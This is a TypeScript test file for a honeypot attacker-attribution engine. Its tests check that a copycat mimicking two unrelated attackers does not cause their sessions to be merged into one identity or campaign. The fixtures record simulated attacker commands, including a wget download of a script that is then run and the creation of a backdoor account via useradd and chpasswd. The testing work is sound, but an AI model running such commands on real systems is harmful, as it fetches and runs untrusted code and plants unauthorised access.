import { describe, expect, it } from 'vitest'
import { generate } from './generate.ts'
import { address, company, found, HOUR, list, NOW, stay } from './misled.fixture.ts'
import { randomOf } from './random.ts'

const traits = ['client', 'login', 'habits', 'file', 'host', 'left'] as const
type Trait = (typeof traits)[number]
/** Somebody's trait. */
type Shown = readonly [name: string, trait: Trait]

const COMMON = ['uname -a', 'id', 'ls -la', 'cat /proc/cpuinfo']

/** What strangers have in common by chance. */
interface Besides {
  readonly login?: readonly [user: string, secret: string]
  /** The decky's own account. */
  readonly opens?: true
  readonly command?: string
}

/** A stay that shows these, and what everybody types. */
function shows(id: string, at: number, place: number, shown: readonly Shown[], besides: Besides = {}) {
  const whose = (trait: Trait) => shown.flatMap(([name, what]) => (what === trait ? name : []))
  const texts = [
    ...COMMON,
    ...(besides.command ? [besides.command] : []),
    ...whose('habits').flatMap((name) => [`${name}tool --sweep`, `${name}run -q`]),
    ...whose('left').flatMap((name) => [`echo k > /opt/.${name}/run.sh`, `sh /opt/.${name}/run.sh`]),
  ]
  return stay(id, at, {
    ip: address(place),
    asn: 65_000 + place,
    deckies: ['web-01'],
    fingerprints: { hassh: whose('client').map((name) => `${name}-hassh`) },
    credentials: [...whose('login').map((name) => [name, `${name}-word`]), ...(besides.login ? [besides.login] : [])],
    ...(besides.opens && besides.login && { accepted: [besides.login] }),
    payloads: whose('file').map((name) => `${name}-file`),
    c2: whose('host').map((name) => `${name}.cc.example`),
    commands: texts.map((text, n) => ({ ts: at + n * 1_000, decky: 'web-01', text })),
  })
}
const of = (name: string, which: readonly Trait[]): Shown[] => which.map((trait) => [name, trait])

/** All that the one has, and what the copycat has of the other besides. */
const copies: readonly (readonly [readonly Trait[], readonly Trait[]])[] = [
  [traits, traits],
  [traits, ['host', 'file']],
  [traits, ['host', 'client']],
  [traits, ['host', 'left']],
  [traits, ['login', 'host']],
  [
    ['client', 'habits'],
    ['host', 'habits'],
  ],
  [
    ['client', 'habits', 'login'],
    ['host', 'file'],
  ],
]
const cases = company.flatMap(({ where, others }) =>
  [1, 3].map((addresses) => ({ where, others, addresses, title: `${addresses} address${addresses === 1 ? '' : 'es'}` })),
)

/** Addresses of one copycat: such as cost no more than one, such as have nothing to do with each other, and such as are not known. */
const several: readonly (readonly (string | null)[])[] = [
  ['5.188.10.77', '5.188.10.78'],
  ['5.188.10.77', '::ffff:5.188.10.78'],
  ['2001:db8:5:6::10', '2001:db8:5:6:1:2:3:4', '2001:DB8:5:6:0::12'],
  ['2001:db8:5:100::1', '2001:db8:5:200::1', '2001:db8:5:101::1', '2001:db8:5:201::1'],
  ['5.188.10.77', '91.240.118.5'],
  ['5.188.10.77', '91.240.118.5', '185.220.101.7', '45.9.148.3'],
  [null, null],
]

const typed = (...texts: readonly (string | undefined)[]) => ({
  deckies: ['web-01'],
  commands: texts.map((text = '', n) => ({ ts: NOW + n * 1_000, decky: 'web-01', text })),
})

describe('a copycat who is taken for one of two strangers', () => {
  it.each(cases)('makes no campaign of them, each of $title, $where', ({ others, addresses }) => {
    for (const [ones, anothers] of copies) {
      const person = (name: string, place: number, has: readonly Trait[]) =>
        list(addresses, (n) => shows(`${name}-${n}`, NOW + (n * 30 + place) * HOUR, place * 10 + n, of(name, has)))
      const copycat = shows('copycat', NOW + 100 * HOUR, 99, [...of('alder', ones), ...of('birch', anothers)])
      const { identity, campaign } = found([...person('alder', 1, ones), ...person('birch', 2, traits), copycat], others)
      const what = `${ones.join()} and ${anothers.join()}`
      expect([identity('alder-0'), identity('birch-0')], what).toContain(identity('copycat'))
      expect(identity('alder-0'), what).not.toBe(identity('birch-0'))
      expect(campaign('alder-0'), what).not.toBe(campaign('birch-0'))
    }
  })

  const chances: readonly (readonly [string, Besides])[] = [
    ['the account of the decky', { login: ['rsync', 'rsync1'], opens: true }],
    ['a common password', { login: ['root', '123456'] }],
    ['a login that few try', { login: ['jellyfin', 'quince'] }],
    ['a command that few give', { command: 'getconf LONG_BIT' }],
  ]
  it.each(company.flatMap(({ where, others }) => chances.map(([title, besides]) => ({ where, others, title, besides }))))(
    'makes no campaign of them where all use $title, $where',
    ({ others, besides }) => {
      const person = (name: string, place: number) =>
        list(2, (n) => shows(`${name}-${n}`, NOW + (n * 30 + place) * HOUR, place * 10 + n, of(name, traits), besides))
      const strangers = [...person('alder', 1), ...person('birch', 2)]
      const copycat = shows('copycat', NOW + 100 * HOUR, 99, [...of('alder', traits), ...of('birch', traits)], besides)
      for (const seen of [strangers, [...strangers, copycat]]) {
        const { identity, campaign } = found(seen, others)
        expect(identity('alder-0')).not.toBe(identity('birch-0'))
        expect(campaign('alder-0')).not.toBe(campaign('birch-0'))
      }
    },
  )

  it.each(
    company.flatMap(({ where, others }) =>
      several.flatMap((ips) => [1, 2].map((addresses) => ({ where, others, ips, addresses, title: ips.map(String).join(' and ') }))),
    ),
  )('makes no campaign of them, who have $addresses each, from $title, $where', ({ others, ips, addresses }) => {
    const person = (name: string, place: number) =>
      list(addresses, (n) => shows(`${name}-${n}`, NOW + (n * 30 + place) * HOUR, place * 10 + n, of(name, traits)))
    const whole = [...of('alder', traits), ...of('birch', traits)]
    for (const oneClient of [true, false]) {
      // The client of the one here, that of the other there.
      const shown = (n: number) =>
        oneClient ? whole : whole.filter(([name, trait]) => trait !== 'client' || (name === 'alder') === (n % 2 === 0))
      const copycats = ips.map((ip, n) => ({ ...shows(`copycat-${n}`, NOW + (100 + 2 * n) * HOUR, 99, shown(n)), ip }))
      const { identity, campaign } = found([...person('alder', 1), ...person('birch', 2), ...copycats], others)
      expect(identity('alder-0')).not.toBe(identity('birch-0'))
      expect(campaign('alder-0')).not.toBe(campaign('birch-0'))
    }
  })

  it.each(company)('makes no campaign of them by what he leaves on a decky and both use, $where', ({ others }) => {
    const secret = ['zoran', 'Kx91!-vahovi-47'] as const
    const ways = [
      { left: ['wget http://9.9.9.9/x -O /opt/kit/run.sh'], used: ['/opt/kit/run.sh --now'], logins: [] },
      { left: ['useradd -m zoran', "echo 'zoran:Kx91!-vahovi-47' | chpasswd"], used: [], logins: [secret] },
    ]
    for (const { left, used, logins } of ways)
      for (const addresses of [1, 3]) {
        const person = (name: string, place: number) =>
          list(addresses, (n) => {
            const at = NOW + (n * 20 + place) * HOUR
            const shown = shows(`${name}-${n}`, at, place * 10 + n, of(name, ['client', 'login', 'habits']))
            const commands = [...shown.commands, ...used.map((text) => ({ ts: at + 60_000, decky: 'web-01', text }))]
            return { ...shown, commands, credentials: [...shown.credentials, ...logins], accepted: logins }
          })
        const copycat = shows('copycat', NOW, 99, of('alder', ['client', 'login', 'habits']))
        const leaves = { ...copycat, commands: [...copycat.commands, ...left.map((text) => ({ ts: NOW + 60_000, decky: 'web-01', text }))] }
        const { identity, campaign } = found([leaves, ...person('alder', 1), ...person('birch', 2)], others)
        expect(identity('alder-0')).toBe(identity('copycat'))
        expect(campaign('alder-0'), left[0]).not.toBe(campaign('birch-0'))
      }
  })

  it.each(company)('makes no campaign of them who name a host that others name as well, by copying more of both, $where', ({ others }) => {
    const bare = (...given: Parameters<typeof shows>) => {
      const shown = shows(...given)
      return { ...shown, commands: shown.commands.filter(({ text }) => !COMMON.includes(text)) }
    }
    const host = of('shared', ['host'])
    for (const users of [1, 3, 8])
      for (const more of [['client'], ['habits']] as const) {
        const person = (name: string, place: number) =>
          list(2, (n) =>
            bare(`${name}-${n}`, NOW + (n * 20 + place) * HOUR, place * 10 + n, [...of(name, ['client', 'login', 'habits']), ...host]),
          )
        const rest = list(users, (n) => bare(`user-${n}`, NOW + n * 7 * HOUR, 50 + n, [...of(`user${n}`, ['client', 'habits']), ...host]))
        const copied = [...of('alder', ['client', 'login', 'habits']), ...host, ...of('birch', more)]
        const strangers = [...person('alder', 1), ...person('birch', 2), ...rest]
        for (const seen of [strangers, [...strangers, bare('copycat', NOW, 99, copied)]]) {
          const { campaign } = found(seen, others)
          expect(campaign('alder-0'), `${more.join()}, ${users} others, ${seen.length}`).not.toBe(campaign('birch-0'))
        }
      }
  })

  it('hides from no guard what one address of a stranger alone shows, be it by a rare thing that it forges', () => {
    const others = [
      ...list(48, (n) =>
        stay(`crowd-${n}`, NOW + n * 3 * HOUR, { ip: address(100 + n), ...typed(['nproc', 'uname -a', 'w', 'free -m'][n % 4]) }),
      ),
      ...list(4, (n) => stay(`kin-${n}`, NOW + n * 11 * HOUR, { ip: address(160 + n), c2: ['drop.example'] })),
    ]
    const client = { ja3: ['a7'.repeat(16)] }
    const alder = [
      stay('alder-0', NOW + 20 * HOUR, { ip: address(10), fingerprints: client, c2: ['drop.example'], ...typed('alder --sweep') }),
      stay('alder-1', NOW + 33 * HOUR, { ip: address(11), fingerprints: client, c2: ['drop.example'], ...typed('alder --sweep', 'nproc') }),
    ]
    const logins = [
      ['ufgx', 'pzom-xdi'],
      ['nkkd', 'cjwa-osc'],
    ]
    const birch = stay('birch', NOW + 31 * HOUR, {
      ...{
        ip: address(20),
        fingerprints: { hassh: ['b8'.repeat(16)] },
        credentials: logins,
        c2: ['drop.example'],
        ...typed('birch -q', 'nproc'),
      },
    })
    const copycat = stay('copycat', NOW + 40 * HOUR, {
      ...{
        ip: address(30),
        fingerprints: { ...client, hassh: ['b8'.repeat(16)] },
        credentials: logins,
        c2: ['drop.example'],
        ...typed('birch -q'),
      },
    })
    for (const seen of [
      [...alder, birch],
      [...alder, birch, copycat],
    ]) {
      const { campaign } = found(seen, others)
      expect(alder.map(({ id }) => campaign(id))).not.toContain(campaign('birch'))
    }
  })

  it.each(company)('takes no stay from one of whom others vouch for it, $where', ({ others }) => {
    for (const addresses of [3, 5]) {
      const rare = { ja3: ['7'.repeat(32)], hassh: ['9'.repeat(32)] }
      const person = list(addresses, (n) => {
        const at = NOW + n * 7 * HOUR
        const first = shows('alder-0', at, 10, of('alder', ['login', 'habits', 'host']))
        return {
          ...(n === 0 ? first : stay(`alder-${n}`, at, { ip: address(10 + n), asn: 65_010 + n })),
          fingerprints: { ...rare, ja4: [] },
        }
      })
      const copycat = shows('copycat', NOW + 40 * HOUR, 99, of('alder', ['login', 'habits', 'host']))
      const { identity } = found([...person, copycat], others)
      expect(new Set(person.map(({ id }) => identity(id))).size).toBe(1)
    }
  })

  const [many, few] = [
    [
      [1, 1, 3],
      [1, 1, 8],
      [3, 2, 3],
      [4, 4, 5],
    ],
    [[3, 2, 3]],
  ]
  const world = generate({ seed: 'world', start: NOW, knobs: { identities: 600 } }).observations
  it.each([
    ...company.map((one) => ({ ...one, counts: many, times: [-20, 100] })),
    { where: 'in the world', others: world, counts: few, times: [100] },
  ])('makes no identity of them where they share a client that few others use, $where', ({ others, counts, times }) => {
    const own: readonly (readonly Trait[])[] = [
      ['habits'],
      ['habits', 'login'],
      ['habits', 'host', 'file'],
      ['habits', 'login', 'host', 'file'],
    ]
    for (const has of own)
      for (const [ones = 0, anothers = 0, users = 0] of counts)
        for (const at of times) {
          const shared = of('shared', ['client'])
          const person = (name: string, count: number, place: number) =>
            list(count, (n) => shows(`${name}-${n}`, NOW + (n * 30 + place) * HOUR, place * 10 + n, [...shared, ...of(name, has)]))
          const rest = list(users, (n) => person(`user${n}`, 1, 10 + n)).flat()
          const copycat = shows('copycat', NOW + at * HOUR, 99, [...shared, ...of('alder', has), ...of('birch', has)])
          const { identity } = found([...person('alder', ones, 1), ...person('birch', anothers, 2), ...rest, copycat], others)
          expect(identity('alder-0'), `${has.join()}, ${ones} and ${anothers}, ${users} others`).not.toBe(identity('birch-0'))
        }
  })

  it('makes no identity of them, who show little of their own and are up at the same hour, from two addresses that vary what they copy', () => {
    const random = randomOf('copycats')
    const some = (of: readonly Trait[], share: number) => of.filter(() => random.chance(share))
    for (const [ones, others] of [
      [1, 1],
      [2, 2],
      [3, 3],
      [5, 5],
      [1, 4],
    ] as const)
      for (let turn = 0; turn < 20; turn += 1) {
        const [has, have] = [some(traits, 0.55), some(traits, 0.55)]
        const person = (name: string, count: number, place: number, what: readonly Trait[]) =>
          list(count, (n) => shows(`${name}-${n}`, NOW + (n * 30 + place) * HOUR, place * 10 + n, of(name, what)))
        const copycats = ['5.188.10.77', '91.240.118.5'].map((ip, n) => {
          const shown = [...of('alder', some(has, 0.4 + turn * 0.03)), ...of('birch', some(have, 0.4 + turn * 0.03))]
          return { ...shows(`copycat-${n}`, NOW + (100 + 2 * n) * HOUR, 99, shown), ip }
        })
        const { identity, campaign } = found([...person('alder', ones, 1, has), ...person('birch', others, 2, have), ...copycats], [])
        const what = `${has.join()} and ${have.join()}`
        expect(identity('alder-0'), what).not.toBe(identity('birch-0'))
        expect(campaign('alder-0'), what).not.toBe(campaign('birch-0'))
      }
  })
})
